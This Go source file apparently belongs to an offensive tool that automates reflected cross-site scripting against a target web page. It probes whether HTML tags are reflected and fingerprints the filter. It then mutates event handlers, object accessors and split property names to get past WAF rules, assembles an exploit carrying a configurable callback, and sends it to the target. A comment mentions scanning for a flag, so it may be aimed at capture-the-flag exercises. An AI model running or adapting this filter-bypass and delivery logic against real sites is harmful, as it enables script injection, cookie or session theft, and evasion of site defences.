package scanner

import (
	"context"
	"strings"

	"github.com/Serdar715/flareload/internal/payloads"
)

// probeContext checks that angle brackets come back unfiltered
func (r *run) probeContext(ctx context.Context) error {
	resp, err := r.oracle.Fetch(ctx, r.probeURL(r.config.ContextProbe))
	if err != nil {
		return err
	}

	if !strings.Contains(resp.Body, "<") || !strings.Contains(resp.Body, ">") {
		r.reporter.Failure("HTML tags blocked. Aborting.")
		return newPhaseError(PhaseContextProbe, r.target, ErrContextUnavailable)
	}
	r.reporter.Success("HTML Context confirmed.")

	r.result.Context = DetectContext(resp.Body, probeCanary(r.config.ContextProbe))
	r.result.WAFDetected = r.wafDetector.Detect(resp)
	if r.result.WAFDetected != "" {
		r.reporter.Info("Filter fingerprint: %s", r.result.WAFDetected)
	}
	return nil
}

// resolveEventHandler tries each handler name, canonical form first, then with a
// trailing space before '='
func (r *run) resolveEventHandler(ctx context.Context) error {
	for _, event := range r.config.Events {
		payload, marker := r.generator.EventProbe(event)
		ok, err := r.oracle.Probe(ctx, r.probeURL(payload), marker)
		if err != nil {
			return err
		}
		if ok {
			r.state.EventHandlerExpr = event
			r.reporter.Success("Event handler '%s' allowed.", event)
			return nil
		}

		r.reporter.Blocked("'%s' blocked. Mutating...", event)

		mutated := event + " "
		payload, marker = r.generator.EventProbe(mutated)
		ok, err = r.oracle.Probe(ctx, r.probeURL(payload), marker)
		if err != nil {
			return err
		}
		if ok {
			r.state.EventHandlerExpr = mutated
			r.reporter.Success("Bypass found: '%s'", mutated)
			return nil
		}
	}

	r.reporter.Failure("Failed to bypass event handler filter.")
	return newPhaseError(PhaseEventHandler, r.target, ErrPhaseExhausted)
}

// resolveObjectAccessor finds an expression for the object that survives the filter:
// the bare identifier, then its semantic rewrites, then alias-indexed forms
func (r *run) resolveObjectAccessor(ctx context.Context) error {
	object := r.config.Object

	expr, found, err := r.firstReflected(ctx, []string{object})
	if err != nil {
		return err
	}
	if found {
		r.state.ObjectAccessorExpr = expr
		r.reporter.Success("Object '%s' allowed.", object)
		return nil
	}

	r.reporter.Blocked("Object '%s' blocked. Evolving...", object)

	expr, found, err = r.firstReflected(ctx, r.config.SemanticRewrites[object])
	if err != nil {
		return err
	}
	if found {
		r.state.ObjectAccessorExpr = expr
		r.reporter.Success("Object mutation (Semantic): %s", expr)
		return nil
	}

	expr, found, err = r.firstReflected(ctx, r.mutator.Accessors(object))
	if err != nil {
		return err
	}
	if found {
		r.state.ObjectAccessorExpr = expr
		r.reporter.Success("Object mutation: %s", expr)
		return nil
	}

	r.reporter.Failure("Failed to mutate object '%s'.", object)
	return newPhaseError(PhaseObjectAccessor, r.target, ErrPhaseExhausted)
}

// resolvePropertyAccessor tries ['prop'] then ['pr'+'op']. Nothing working keeps the
// canonical form; this phase never aborts the run.
func (r *run) resolvePropertyAccessor(ctx context.Context) error {
	property := r.config.Property
	canonical := payloads.PropertyBracket(property)
	r.state.PropertyAccessorExpr = canonical

	candidates := []string{canonical}
	expr, found, err := r.firstReflected(ctx, candidates)
	if err != nil {
		return err
	}
	if found {
		r.reporter.Success("Property '%s' allowed.", property)
		return nil
	}

	r.reporter.Blocked("Property '%s' blocked. Evolving...", property)

	if len(property) > 2 {
		expr, found, err = r.firstReflected(ctx, []string{payloads.PropertySplitBracket(property)})
		if err != nil {
			return err
		}
		if found {
			r.state.PropertyAccessorExpr = expr
			r.reporter.Success("Property mutation: %s", expr)
			return nil
		}
	}

	r.reporter.Blocked("No property mutation reflected, keeping %s", canonical)
	return nil
}

// firstReflected embeds each candidate as the resolved handler's attribute value and
// returns the first one reflected verbatim
func (r *run) firstReflected(ctx context.Context, candidates []string) (string, bool, error) {
	for _, candidate := range candidates {
		payload := r.generator.Attribute(r.state.EventHandlerExpr, candidate)
		ok, err := r.oracle.Probe(ctx, r.probeURL(payload), candidate)
		if err != nil {
			return "", false, err
		}
		if ok {
			return candidate, true, nil
		}
	}
	return "", false, nil
}

func (r *run) assemblePayload(ctx context.Context) error {
	payload := r.generator.Exploit(
		r.state.EventHandlerExpr,
		r.config.CallbackScheme,
		r.config.Callback,
		r.state.ObjectAccessorExpr,
		r.state.PropertyAccessorExpr,
	)

	r.result.Vulnerable = true
	r.result.Payload = payload
	r.result.PayloadURL = r.probeURL(payload)
	r.reporter.Payload(payload)
	return nil
}

// deliver submits the final payload; only the flag scan on its response matters
func (r *run) deliver(ctx context.Context) error {
	r.reporter.Info("Sending final payload to target...")
	_, err := r.oracle.Probe(ctx, r.result.PayloadURL, DeliveryMarker)
	return err
}
